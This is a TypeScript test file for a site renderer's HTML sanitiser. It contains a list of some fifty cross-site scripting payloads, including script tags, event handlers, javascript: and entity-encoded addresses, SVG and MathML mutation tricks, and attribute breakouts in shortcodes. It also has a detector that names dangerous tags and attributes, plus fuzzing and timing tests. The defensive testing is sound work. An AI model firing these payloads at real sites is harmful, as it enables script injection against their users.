import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitise } from '../../server/src/core/render/sanitise/sanitise.ts';
import { attributeOf, bodyText, elementsOf } from '../support/browserView.ts';
import { processorTime } from '../support/processorTime.ts';
import { renderPage } from './support.ts';

const harmful = new Set(
	'script object embed applet form button select textarea base frame frameset link svg math foreignobject animate set template noscript portal'.split(
		' ',
	),
);
const players = /^https:\/\/(?:(?:www\.)?youtube(?:-nocookie)?\.com\/embed|player\.vimeo\.com\/video)\//;

/** What of a page could run, send, or take the reader elsewhere, as a browser reads it. */
function dangers(html: string): string[] {
	return elementsOf(html).flatMap((element) => {
		const { tagName, attrs } = element;
		const found = harmful.has(tagName) ? [`<${tagName}>`] : [];
		if (tagName === 'iframe' && !players.test(attributeOf(element, 'src') ?? '')) found.push('<iframe> of a stranger');
		if (tagName === 'iframe' && attributeOf(element, 'srcdoc') !== undefined) found.push('srcdoc');
		if (tagName === 'input' && attributeOf(element, 'type') !== 'checkbox') found.push('<input>');
		for (const { name, value } of attrs) {
			const bare = Array.from(value)
				.filter((letter) => letter > ' ')
				.join('')
				.toLowerCase();
			if (/^on|^formaction$|^srcdoc$|^xlink:|^ping$|^http-equiv$/.test(name) && !isOurs(name, value)) found.push(name);
			if (/^(?:javascript|vbscript|data|blob):/.test(bare) && /^(?:href|src|action|cite|poster)$/.test(name))
				found.push(`${name}=${value}`);
			if (name === 'style' && /url\(|expression|@import|position/i.test(value)) found.push(`style=${value}`);
		}
		return found;
	});
}

/** The page's own policy is the one thing of this kind that belongs there. */
function isOurs(name: string, value: string): boolean {
	return name === 'http-equiv' && value === 'Content-Security-Policy';
}

/** Bodies that an attacker might send an author, each with a word that stays to be read. */
const payloads: readonly (readonly [name: string, body: string])[] = [
	['a script', '<script>alert(1)</script>WORD'],
	['a script in capitals with a space', '<ScRiPt src="https://e.example/x.js" ></sCrIpT >WORD'],
	['a script inside a script', '<scr<script>ipt>alert(1)</scr</script>ipt>WORD'],
	['a script in a comment that ends early', '<!--><script>alert(1)</script>-->WORD'],
	['an event handler', '<img src=x onerror=alert(1)>WORD'],
	['a handler behind a slash', '<img/src="x"/onerror=alert(1)>WORD'],
	['a handler behind a line break', '<p\nonclick\n=\n"alert(1)">WORD</p>'],
	['a handler on an element that nobody knows', '<x-y onpointerenter=alert(1)>WORD</x-y>'],
	['a handler that focus starts', '<details open ontoggle=alert(1)><summary>WORD</summary></details>'],
	['an address that runs', '[WORD](javascript:alert(1))'],
	['an address that runs, in HTML', '<a href="javascript:alert(1)">WORD</a>'],
	['an address with a tab and capitals', '<a href="jAva\tscript:alert(1)">WORD</a>'],
	['an address with entities', '<a href="&#106;avascript&colon;alert(1)">WORD</a>'],
	['an address with an entity that is not ended', '<a href="&#106avascript:alert(1)">WORD</a>'],
	['an address with a control character before it', '<a href="\u0001javascript:alert(1)">WORD</a>'],
	['an address of data', '<a href="data:text/html,<script>alert(1)</script>">WORD</a>'],
	['an old scheme', '<a href="vbscript:msgbox(1)">WORD</a>'],
	['an automatic link', '<javascript:alert(1)> WORD'],
	['a definition', '[WORD][a]\n\n[a]: javascript:alert(1)'],
	[
		'a form',
		'<form action="https://e.example"><input name=a value=b><button formaction="javascript:alert(1)">WORD</button></form>',
	],
	['a refresh', '<meta http-equiv="refresh" content="0;url=https://e.example">WORD'],
	['a base', '<base href="https://e.example/">WORD'],
	[
		'a style sheet',
		'<link rel="stylesheet" href="https://e.example/x.css"><style>@import "https://e.example/y.css"</style>WORD',
	],
	['a style', '<p style="background:url(https://e.example/x);position:fixed;inset:0">WORD</p>'],
	['a script in SVG', '<svg><script>alert(1)</script><text>WORD</text></svg>'],
	['a handler in SVG', '<svg onload=alert(1)><g><animate onbegin=alert(1) attributeName=x /></g></svg>WORD'],
	['a link in SVG', '<svg><a xlink:href="javascript:alert(1)"><text>WORD</text></a></svg>'],
	['a picture in MathML', '<math><mtext><img src=x onerror=alert(1)></mtext></math>WORD'],
	['a frame of a script', '<iframe src="javascript:alert(1)"></iframe>WORD'],
	[
		'a frame of a stranger',
		'<iframe src="https://e.example" srcdoc="<script>alert(1)</script>" onload="alert(1)"></iframe>WORD',
	],
	['a frame that begins like a player', '<iframe src="https://www.youtube.com.e.example/embed/x"></iframe>WORD'],
	['an object', '<object data="javascript:alert(1)">WORD</object><embed src="https://e.example/x.swf">'],
	['a caption', '{{< image link="./welcome.jpg" caption="<script>alert(1)</script>WORD" >}}'],
	['a title', '{{< image link="./welcome.jpg" title="\\" onload=\\"alert(1)" caption="WORD" >}}'],
	['an alt text', '{{< image link="./welcome.jpg" alt="x\\"><script>alert(1)</script>" caption="WORD" >}}'],
	['a width', '{{< image link="./welcome.jpg" width="1%\\" onclick=\\"alert(1)" caption="WORD" >}}'],
	[
		'a picture of another site',
		'{{< image link="https://e.example/x.png\\" onerror=\\"alert(1)" ratio="1\\" onload=\\"x" caption="WORD" >}}',
	],
	[
		'a link of a figure',
		'{{< figure src="a.jpg" link="javascript:alert(1)" attrlink="javascript:alert(1)" attr="WORD" >}}',
	],
	['a class of a video', '{{< youtube id="w7Ft2ymGmfc\\" onload=\\"alert(1)" class="x\\" onclick=\\"alert(1)" >}}WORD'],
	[
		'the name of a tab',
		'{{< tabset >}}\n{{< tab name="<img src=x onerror=alert(1)>" >}}\nWORD\n{{< /tab >}}\n{{< /tabset >}}',
	],
	['the language of a block of code', '{{< text "bash\' onclick=\'alert(1)" >}}\n$ WORD\n{{< /text >}}'],
	[
		'what an unknown shortcode holds',
		'{{< later a="<script>alert(1)</script>" >}}\n<img src=x onerror=alert(1)>WORD\n{{< /later >}}',
	],
	['an attribute of a heading', '## WORD {onclick="alert(1)" style="background:url(x)"}'],
	['a shortcode in a tag', '<a href="{{< tip >}}" {{< later >}} onclick="alert(1)">WORD</a>'],
	['an attribute never ended', 'WORD <img src="x" alt="<script>alert(1)</script>'],
	[
		'a mix that changes when it is read again',
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>">WORD</noscript>',
	],
	[
		'a title that changes when it is read again',
		'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">WORD',
	],
	['a template', '<template><script>alert(1)</script></template>WORD'],
];

describe('a page of its own', () => {
	it('is tried with more than thirty payloads', () => expect(payloads.length).toBeGreaterThan(30));

	for (const [name, body] of payloads) {
		it(`is safe from ${name}`, async () => {
			const html = await renderPage(`${body}\n`);
			expect(dangers(html)).toEqual([]);
			expect(bodyText(html)).toContain('WORD');
		});
	}

	it('refuses by its policy what would be overlooked', async () => {
		const meta = elementsOf(await renderPage('x\n')).find(
			(element) => attributeOf(element, 'http-equiv') !== undefined,
		);
		const policy = meta && attributeOf(meta, 'content');
		expect(policy).toContain("default-src 'none'");
		expect(policy).toContain("base-uri 'none'; form-action 'none'");
		expect(policy).not.toContain('script-src');
	});

	it('is found harmful by this test where nothing is taken out', () => {
		const tellsOf = payloads.filter(([, body]) => dangers(body).length > 0);
		expect(tellsOf.length).toBeGreaterThan(20);
	});

	it('keeps what a post shows', async () => {
		const html = await renderPage(
			'a **b** <kbd>c</kbd> [d](https://d.example "t") <span style="color: red; width:5%">e</span>\n\n' +
				'| f |\n|:-:|\n| g |\n\n* [x] h\n\n{{< image width="75%" link="./welcome.jpg" caption="C" >}}\n\n' +
				'<details><summary>S</summary>D</details>\n\n{{< youtube w7Ft2ymGmfc >}}\n',
		);
		for (const kept of [
			'a <strong>b</strong> <kbd>c</kbd> <a href="https://d.example" title="t">d</a>',
			'<span style="color:red;width:5%">e</span>',
			'<td style="text-align:center">g</td>',
			'<input checked="" disabled="" type="checkbox"> h',
			'<figure style="width:75%">',
			'style="padding-bottom:75%"',
			'src="file:///site/content/en/blog/2026/example/welcome.jpg" alt="C"',
			'<details><summary>S</summary>D</details>',
			'src="https://www.youtube.com/embed/w7Ft2ymGmfc" title="YouTube Video" sandbox=',
		]) {
			expect(html).toContain(kept);
		}
	});
});

describe('the sanitiser', () => {
	for (const [source, clean] of [
		['<b>x', '<b>x</b>'],
		['x</b></p>', 'x'],
		['<b><i>x</b>y', '<b><i>x</i></b>y'],
		['1 < 2 > 1 & <3', '1 &lt; 2 &gt; 1 & &lt;3'],
		['<p title=a&quot;b>', '<p title="a&#34;b"></p>'],
		['<br/><hr /><img src="a" alt>', '<br><hr><img src="a" alt="">'],
		['<a href="//a.example/x">', '<a href="https://a.example/x"></a>'],
		[String.raw`<a href="\\host\x">`, String.raw`<a href="https:\\host\x"></a>`],
		['<img src="file:////host/x">', '<img>'],
		['<a href="/docs/?a=b:c#d">', '<a href="/docs/?a=b:c#d"></a>'],
		['<script>never closed <b>x</b>', 'never closed <b>x</b>'],
		['<!-- <b> --><![CDATA[x]]><?php y ?>z', 'z'],
	] as const) {
		it(`writes ${source} as ${clean}`, () => {
			expect(sanitise(source)).toBe(clean);
		});
	}

	it('finds nothing more to take out of what it wrote, whatever it was given', () => {
		const pieces = fc.constantFrom(
			...[
				'<',
				'>',
				'/',
				'"',
				"'",
				'=',
				' ',
				'\n',
				'<!--',
				'-->',
				'<![CDATA[',
				']]>',
				'&lt;',
				'&#x3c;',
				'`',
				'\0',
				'<script',
				'</script>',
			],
			...[
				'<style>',
				'</style>',
				'<svg',
				'<math>',
				'<p',
				'<a href=',
				'javascript:',
				'<img src=x onerror=',
				'<noscript>',
				'</noscript>',
			],
			...[
				'<title>',
				'</title>',
				'<textarea>',
				'</textarea>',
				'<iframe src=',
				'<template>',
				'<b>',
				'</b>',
				'x',
				'onclick=',
				'style=',
			],
		);
		fc.assert(
			fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
				const once = sanitise(parts.join(''));
				expect(dangers(once)).toEqual([]);
				expect(sanitise(once)).toBe(once);
			}),
			{ numRuns: 2000 },
		);
	});

	// Whoever reads it again from every place takes minutes; a machine that is busy, or shares its processor, three seconds.
	for (const text of ['<', '<a ', '<a b="', '<!--', '<script>', '</b>', '<b>', '<a b="" ', '<p>']) {
		it(`reads a megabyte of ${text} in little time`, () => {
			const started = processorTime();
			sanitise(text.repeat(1_000_000 / text.length));
			expect(processorTime() - started).toBeLessThan(15_000);
		}, 60_000);
	}
});
